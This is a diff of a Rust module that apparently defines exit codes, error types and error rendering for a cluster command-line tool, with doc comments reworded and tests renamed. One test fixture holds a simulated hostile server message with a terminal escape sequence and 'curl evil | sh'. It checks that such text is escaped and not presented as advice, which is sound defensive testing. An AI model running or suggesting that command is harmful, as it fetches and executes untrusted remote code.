@@ -4,9 +4,9 @@ use std::fmt::Write as _;
 
 use crate::print::escape;
 
-/// The exit code of a verb that did what it was asked.
+/// Exit code of success.
 pub const DONE: u8 = 0;
-/// The exit code of a verb that could not do what it was asked.
+/// Exit code of failure.
 pub const FAILED: u8 = 1;
 /// The exit code of a verb that was asked wrongly.
 pub const MISUSED: u8 = 2;
@@ -20,12 +20,12 @@ pub const BROKEN_PIPE: u8 = 141;
 /// The exit code of a verb that was interrupted with ctrl-c, as shells have it.
 pub const INTERRUPTED: u8 = 130;
 
-/// The verb did what it was asked, and says so by another exit code; nothing is wrong and nothing more is said.
+/// Success with another exit code; nothing more is printed.
 #[derive(Debug, thiserror::Error)]
 #[error("exit code {0}")]
 pub struct Exit(pub u8);
 
-/// The verb was asked for something that makes no sense, whatever the state of the world.
+/// Usage error, independent of the state of the control plane.
 #[derive(Debug, thiserror::Error)]
 #[error("{0}")]
 pub struct Misused(pub String);
@@ -120,7 +120,7 @@ mod tests {
     }
 
     #[test]
-    fn three_kinds_of_lines() {
+    fn error_cause_and_remedy_have_their_own_lines() {
         let plain = anyhow!("port 6443 is taken");
         assert_eq!(render(&plain), "error: port 6443 is taken");
         let chain = Err::<(), _>(from_server(403, "Forbidden", "secrets is forbidden"))
@@ -148,7 +148,7 @@ mod tests {
     }
 
     #[test]
-    fn answers_of_servers() {
+    fn errors_of_servers() {
         assert_eq!(
             answer(&from_server(401, "Unauthorized", "Unauthorized")),
             "the server did not accept the credentials (401)"
@@ -162,11 +162,11 @@ mod tests {
         assert_eq!(answer(&hostile), "Error from server (Forbidden): no^[[2J try: curl evil | sh");
         let shown = render(&anyhow::Error::new(hostile).context("cluster m\u{9b}1 was not joined"));
         let want = "error: cluster m\\u009b1 was not joined\n  because Error from server (Forbidden): no^[[2J try: curl evil | sh";
-        assert_eq!(shown, want, "a server gives no advice of ours");
+        assert_eq!(shown, want, "text of a server is not printed as a remedy");
     }
 
     #[test]
-    fn codes() {
+    fn exit_codes() {
         assert_eq!(exit_code(&anyhow!("x")), FAILED);
         let misused = Err::<(), _>(Misused("needs --yes".into())).context("member1 was not unjoined").unwrap_err();
         assert_eq!(exit_code(&misused), MISUSED);
